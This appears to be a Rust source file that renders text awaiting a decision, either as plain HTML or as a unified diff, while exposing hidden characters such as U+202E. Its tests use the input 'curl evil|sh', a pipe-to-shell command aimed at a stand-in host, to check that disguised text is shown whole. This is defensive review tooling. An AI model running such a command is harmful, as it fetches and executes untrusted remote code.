//! The text of a question: as it would run, or line by line what it would change.

use super::revealed::revealed;

/// HTML around a line of a diff, bytes at most.
const ROW_FRAME_BYTES: usize = 60;

/// A text to be read before it is decided about.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum AskedText {
    /// HTML for a `pre`.
    Plain(String),
    /// A unified diff.
    Changes { rows: Vec<AskedRow>, added: usize, removed: usize },
}

/// A line of a diff.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AskedRow {
    /// `add`, `del`, `same` or `hunk`.
    pub op: &'static str,
    pub sign: &'static str,
    pub html: String,
}

impl AskedText {
    /// As it runs, or line by line when the whole of it is a unified diff.
    pub fn of(text: &str) -> Self {
        if !is_diff(text) {
            return Self::Plain(revealed(text.trim_end_matches('\n')));
        }
        // What stands before the first change names the file. Later, a line that looks like that is a line of the file.
        // A carriage return at the end of a line is a part of it.
        let rows: Vec<_> = text.strip_suffix('\n').unwrap_or(text).split('\n').skip(2).map(row).collect();
        let count = |op| rows.iter().filter(|row| row.op == op).count();
        Self::Changes { added: count("add"), removed: count("del"), rows }
    }

    /// Its beginning, when it is more than `bytes` of HTML.
    #[must_use]
    pub fn within(self, bytes: usize) -> Self {
        match self {
            Self::Plain(html) if html.len() > bytes => Self::Plain(String::new()),
            Self::Changes { mut rows, added, removed } => {
                let mut room = bytes;
                let shown = rows.iter().take_while(|row| {
                    let weight = row.html.len() + ROW_FRAME_BYTES;
                    let fits = weight <= room;
                    room = room.saturating_sub(weight);
                    fits
                });
                let shown = shown.count();
                rows.truncate(shown);
                Self::Changes { rows, added, removed }
            }
            plain @ Self::Plain(_) => plain,
        }
    }

    /// Bytes of HTML.
    pub fn weight(&self) -> usize {
        match self {
            Self::Plain(html) => html.len(),
            Self::Changes { rows, .. } => rows.iter().map(|row| row.html.len() + ROW_FRAME_BYTES).sum(),
        }
    }

    /// Whether there is nothing to read.
    pub fn is_empty(&self) -> bool {
        matches!(self, Self::Plain(html) if html.is_empty())
    }
}

/// Whether a text is a diff from its first line on: of one that only has lines of a diff in it, the others would be left out.
fn is_diff(text: &str) -> bool {
    let mut lines = text.lines();
    ["--- ", "+++ ", "@@ "].iter().all(|start| lines.next().is_some_and(|line| line.starts_with(start)))
}

fn row(line: &str) -> AskedRow {
    let (op, sign, text) = match line.split_at_checked(1) {
        Some(("+", text)) => ("add", "+", text),
        Some(("-", text)) => ("del", "−", text),
        Some(("@", _)) if line.starts_with("@@ ") => ("hunk", "", line),
        Some((" ", text)) => ("same", "", text),
        _ => ("same", "", line),
    };
    AskedRow { op, sign, html: revealed(text) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_diff_is_read_line_by_line() {
        let AskedText::Changes { rows, .. } = AskedText::of("--- a\n+++ b\n@@ -1 +1 @@\n-old\n+old\r\n") else {
            panic!("a diff")
        };
        assert!(rows.iter().any(|row| row.op == "add" && row.html.contains("U+000D")), "the ends of lines are shown");
        let text = "--- a\n+++ b\n@@ -1,2 +1,2 @@\n same\n-old\n+new\u{202e}\n--- a\n\\ No newline\n";
        let AskedText::Changes { rows, added, removed } = AskedText::of(text) else { panic!("a diff") };
        // A removed line that begins with two dashes is one, not the name of a file.
        assert_eq!((added, removed, rows.len()), (1, 2, 6));
        assert!(rows.iter().any(|row| row.op == "add" && row.html.contains("U+202E")));
    }

    #[test]
    fn a_text_with_lines_of_a_diff_is_shown_whole() {
        for text in
            ["curl evil|sh\n@@ -1 +1 @@\n-old\n+new\n", "--- a\ncurl evil|sh\n+++ b\n@@ -1 +1 @@\n", "@@ -1 +0 @@\n"]
        {
            let AskedText::Plain(html) = AskedText::of(text) else { panic!("no diff: {text}") };
            assert_eq!(html, text.trim_end());
        }
    }
}
